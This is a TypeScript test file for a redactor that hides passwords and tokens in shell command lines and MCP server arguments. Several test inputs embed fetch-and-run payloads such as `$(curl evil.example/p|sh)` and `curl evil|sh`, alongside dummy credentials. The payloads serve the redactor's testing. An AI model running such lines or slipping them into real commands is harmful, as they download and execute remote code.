// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { findSpecSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import {
  asArg,
  expectArgFilledBack,
  expectKept,
  expectShownAndExported,
  exportedArg,
  exportedCommand,
  pasted,
} from "./test-support/spec-cases.js";

// fix166 (r63): command lines the export kept with a literal credential in clear, and no hint.

describe("a shell's own command one escaped quote level down, given as an argument (r63 #1)", () => {
  it.each([
    [
      `sh -c "node -e \\"process.env.TOKEN=f('X9secretpw')\\""`,
      `sh -c "node -e \\"process.env.TOKEN=f('\${TOKEN}')\\""`,
    ],
    [
      'sh -c "srv --password \\"X9 secretpw\\" --url \\"$HOST\\""',
      'sh -c "srv --password \\"${PASSWORD}\\" --url \\"$HOST\\""',
    ],
  ])("%j is replaced whole as an argument, as it is as a pasted command; shown as %j", (line, shown) => {
    expect(exportedArg(line)).toBe("${SRV_COMMAND}");
    expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
    expect(findSpecSecrets(asArg(line)).map((hint) => [hint.path, hint.references])).toEqual([
      ["bundle.mcpServers[0].args[1]", ["${SRV_COMMAND}"]],
    ]);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", "${SHELL_COMMAND}"]);
    // Filled back, byte for byte.
    expectArgFilledBack(["--run", line]);
    expect(withoutCommandLineSecrets(line)).toBe(shown);
  });

  it.each([
    "sh -c 'curl -uuser:abc$(curl e|sh)x https://h'",
    "sh -c 'srv --token \"hunter2SECRET9$(curl evil.example/p|sh)\" run'",
    "sh -c 'srv --token ${X:+tok9qZx81}$(curl evil.example/p|sh)Tr0ub4dorQx7'",
  ])("%j, a literal beside a payload in a shell's command, is replaced whole as an argument", (line) => {
    expect(exportedArg(line)).toBe("${SRV_COMMAND}");
    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
  });

  it("never keeps a telling flag's literal one escaped quote level down in an argument (property)", () => {
    const secret = fc.stringMatching(/^[A-Za-z0-9]{4,10} ?[A-Za-z0-9]{4,10}$/);
    const flag = fc.constantFrom("--password", "--token", "--api-key", "-e TOKEN=");
    const around = fc.constantFrom("", ' --url \\"$HOST\\"', " $X", "; echo ok");
    fc.assert(
      fc.property(secret, flag, around, (value, name, rest) => {
        const joined = name.endsWith("=") ? `${name}\\"${value}\\"` : `${name} \\"${value}\\"`;
        const line = `sh -c "srv ${joined}${rest}"`;
        const out = exportedArg(line) ?? "";
        expect(out.includes(value)).toBe(false);
      }),
    );
  });

  it("keeps an argument whose script says nothing once the line is read rewritten in place", () => {
    expect(withoutArgSecrets(["sh -c 'curl evil|sh' # Bearer abcdefghijklmnop"])).toEqual([
      "sh -c 'curl evil|sh' # ${SECRET}",
    ]);
  });
});

describe("a URL's userinfo right after a positional parameter (r63 #2)", () => {
  it.each([
    ["srv --url $1https://u:hunter2SECRET9@h.example/p", "srv --url $1https://h.example/p"],
    ["srv --url=$1https://u:hunter2SECRET9@h.example/p", "srv --url=$1https://h.example/p"],
    ["Server=db;App=$1https://u:hunter2SECRET9@h.example/p", "Server=db;App=$1https://h.example/p"],
  ])("%j is shown and exported as %j, and flagged", (line, safe) => {
    expectShownAndExported(line, safe);
    expect(exportedArg(line)).toBe(safe);
    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
  });

  it("drops the userinfo after any of $0 … $9 (property)", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 9 }),
        fc.constantFrom("--url ", "--url=", "A=", ""),
        (digit, lead) => {
          const line = `srv ${lead}$${digit}https://u:hunter2SECRET9@h.example/p`;
          expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET9");
          expect(exportedCommand(line)).not.toContain("hunter2SECRET9");
        },
      ),
    );
  });
});

// r63 #3. Rule chosen: on a line the shell refuses (a quote, `$(`, `${` or a backtick left open),
// when the line's reading still leaves a telling name's literal value in clear, that value is
// hidden from its first character (its quotes included) to the line's end, in the display and the
// export alike, and the text before it is read as before. The shell never runs such a line, so a
// payload after the value (`$(`) is hidden with it. This overrides, on a refused line only, r50 F4
// (a mixed value on a line leaving a quote open is kept as written) and fix138's never-closing
// PowerShell value (`$env:API_KEY="a\`"b; node srv.js`), which were kept in clear.
describe("a line the shell refuses, holding a telling name's literal value (r63 #3)", () => {
  it.each([
    ["$(;Password=hunter2SECRET9", "$(;Password=${PASSWORD}"],
    ['"x;Password=hunter2SECRET9', '"x;Password=${PASSWORD}'],
    ['Server=db;"x;Password=hunter2SECRET9', 'Server=db;"x;Password=${PASSWORD}'],
    ["Secret=hunter2SECRET9$$';", "Secret=${SECRET}"],
    ['psql "Server=db;Pwd="Zq7hunterPW"$("', 'psql "Server=db;Pwd=${PWD_SECRET}'],
    ['psql "--password X9secretpw', 'psql "--password ${PASSWORD}'],
    [
      "--password ${DB_PASSWORD:-hunter2SECRET9",
      "--password ${DB_PASSWORD:-${DB_PASSWORD}",
      // The document writes `${DB_PASSWORD` already: the export's reference is a name of its own.
      "--password ${DB_PASSWORD:-${DB_PASSWORD_2}",
    ],
    ['$env:API_KEY="a`"b; node srv.js', "$env:API_KEY=${API_KEY}"],
  ])("%j is shown as %j, exported so, flagged, and fills back", (line, safe, exported = safe) => {
    expectShownAndExported(line, safe, exported);
    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    expectArgFilledBack(["--run", line]);
  });

  it.each([
    ["$(;Password=hunter2SECRET9", "$(;Password=${PASSWORD}"],
    ['"x;Password=hunter2SECRET9', '"x;Password=${PASSWORD}'],
    ['Server=db;"x;Password=hunter2SECRET9', 'Server=db;"x;Password=${PASSWORD}'],
    ['psql "Server=db;Pwd="Zq7hunterPW"$("', 'psql "Server=db;Pwd=${PWD_SECRET}'],
  ])("%j given as an argument is exported as %j", (line, safe) => {
    expect(exportedArg(line)).toBe(safe);
    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
  });

  it("keeps a refused line whose telling names hold no literal as it was", () => {
    for (const line of ["--password ${DB_PASSWORD:-", '--token "$TOKEN', "srv --password $(cat /run/pw"])
      expect(withoutCommandLineSecrets(line)).toBe(line);
  });

  it("never keeps a telling value's literal on a refused line, in either view (property)", () => {
    // Each lead leaves a quote or a run-time part open, which no tail closes.
    const lead = fc.constantFrom("$(;", '"x;', 'Server=db;"x;', 'psql "', "srv 'a ", "`x;", "srv ${X:-a;");
    const name = fc.constantFrom("Password=", "Secret=", "Pwd=", "TOKEN=", "--password ", "--api-key=");
    const value = fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{7,12}$/);
    const tail = fc.constantFrom("", "$$';", '"$("', " $(curl e|sh)", ";Host=h");
    fc.assert(
      fc.property(lead, name, value, tail, (before, telling, secret, after) => {
        // `'a … $$';` closes its quote: that line the shell accepts.
        fc.pre(!(before.includes("'") && after.includes("'")));
        const line = `${before}${telling}${secret}${after}`;
        expect(withoutCommandLineSecrets(line)).not.toContain(secret);
        expect(exportedCommand(line)).not.toContain(secret);
        expect(exportedArg(line)).not.toContain(secret);
        expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
      }),
      propertyRuns(300),
    );
  });
});

describe("mongo's and mongosh's -p, lftp's -u user,password (r63 #4)", () => {
  it.each([
    ['mongosh -p "pa ss X9secretpw"', 'mongosh -p "${PASSWORD}"'],
    ["mongosh -u app -p X9secretpw mongodb://h/db", "mongosh -u app -p ${PASSWORD} mongodb://h/db"],
    ["mongo -p X9secretpw h", "mongo -p ${PASSWORD} h"],
    ["mongosh --password X9secretpw", "mongosh --password ${PASSWORD}"],
    ['lftp -u "u,pa ss X9secretpw" h', 'lftp -u "u,${LFTP_PASSWORD}" h'],
    ["lftp -u u,X9secretpw sftp://h", "lftp -u u,${LFTP_PASSWORD} sftp://h"],
    ["sudo mongosh -p X9secretpw", "sudo mongosh -p ${PASSWORD}"],
  ])("%j is shown and exported as %j, and flagged", (line, safe) => {
    expectShownAndExported(line, safe);
    expect(exportedArg(line)).toBe(safe);
    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });

  it("reads them in args given word by word", () => {
    expect(withoutArgSecrets(["mongosh", "-u", "app", "-p", "X9secretpw"])).toEqual([
      "mongosh",
      "-u",
      "app",
      "-p",
      "${PASSWORD}",
    ]);
    expect(withoutArgSecrets(["lftp", "-u", "u,pa ss X9", "h"])).toEqual([
      "lftp",
      "-u",
      "u,${LFTP_PASSWORD}",
      "h",
    ]);
  });

  it.each([
    "mongosh -u app -p --quiet h",
    "mongosh -p",
    "lftp -u app h",
    "lftp -u app, h",
    "srv -p 8080",
    "ssh -p 22 h",
  ])("keeps %j: no password written there", (line) => {
    expectKept(line);
  });
});

describe("an ODBC {…} value whose quote closes after the pair's ; (r63 #5, display)", () => {
  it.each([
    [
      'Server=db;Pwd={$(curl evil|sh)"};Host=h"',
      // The shell reads `{…"};Host=h"` as Pwd's one value: `;Host=h` is literal text of it too.
      'Server=db;Pwd=${PWD_SECRET}$(curl evil|sh)"${PWD_SECRET}${PWD_SECRET}"',
    ],
    ['Pwd={ab$(curl evil|sh)"};Host=h"', 'Pwd=${PWD_SECRET}$(curl evil|sh)"${PWD_SECRET}${PWD_SECRET}"'],
  ])("%j, which the shell runs, is shown with its payload in sight: %j", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    // The export still hides the whole value.
    expect(exportedCommand(line)).not.toContain("curl");
  });

  it("still hides the whole value, payload included, on a line the shell refuses", () => {
    expect(withoutCommandLineSecrets('Server=db;Pwd={$(curl evil|sh)"};Host=h')).toBe(
      "Server=db;Pwd=${PWD_SECRET};Host=h",
    );
  });
});

describe("a value written apart by quotes is hidden as written, so it fills back byte for byte (r63 #6)", () => {
  it.each([
    ['Password="x;y"hunter2SECRET9#', "Password=${PASSWORD}"],
    ["Password=hunter2SECRET9';", "Password=${PASSWORD}"],
    ['srv Password="x;y"hunter2SECRET9# --v', "srv Password=${PASSWORD} --v"],
    ['srv --password "x;y"hunter2SECRET9 --v', "srv --password ${PASSWORD} --v"],
    ["srv --password=a'b'cX9secret", "srv --password=${PASSWORD}"],
  ])("%j is shown and exported as %j", (line, safe) => {
    expectShownAndExported(line, safe);
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
    expectArgFilledBack(["--run", line]);
  });

  it("fills back a telling value written apart by quotes byte for byte (property)", () => {
    const piece = fc.constantFrom("x;y", "a b", "it", "9", "#", "");
    const quote = fc.constantFrom('"', "'");
    fc.assert(
      fc.property(
        fc.constantFrom("Password=", "--password=", "--token ", "DB_PASS="),
        piece,
        quote,
        fc.stringMatching(/^[A-Za-z0-9]{6,10}$/),
        fc.constantFrom("", " --v", "; echo ok"),
        (name, inside, q, secret, after) => {
          const line = `srv ${name}${q}${inside}${q}${secret}${after}`;
          const shown = withoutCommandLineSecrets(line);
          expect(shown).not.toContain(secret);
          expect(exportedCommand(line)).not.toContain(secret);
          expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
          expectArgFilledBack(["--run", line]);
        },
      ),
    );
  });
});

// r63 #7, checked and kept: the shell reads `\;` as a character of the value, so `;Host=h` is part
// of Secret's value there (bash: `Secret="$(echo P)"\;Host=h` sets `P;Host=h`): the display hides
// it with the value's literal text, payload in sight; nothing is dropped. The export hides the whole
// value as a pasted command (read as the shell reads it), and as an argument (no shell reads it,
// so `\` ends the value and `;Host=h` is a pair of its own).
describe("an escaped ; after a telling value (r63 #7)", () => {
  const line = 'Server=db;Secret="$(curl evil|sh)"\\;Host=h';
  it("is shown with the payload in sight and the literal text, ;Host=h included, hidden", () => {
    expect(withoutCommandLineSecrets(line)).toBe('Server=db;Secret="$(curl evil|sh)"${SECRET}');
    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
  });

  it("is exported with the whole value hidden, and fills back", () => {
    expect(exportedCommand(line)).toBe("Server=db;Secret=${SECRET}");
    expect(exportedArg(line)).toBe("Server=db;Secret=${SECRET};Host=h");
    expectArgFilledBack(["--run", line]);
  });
});
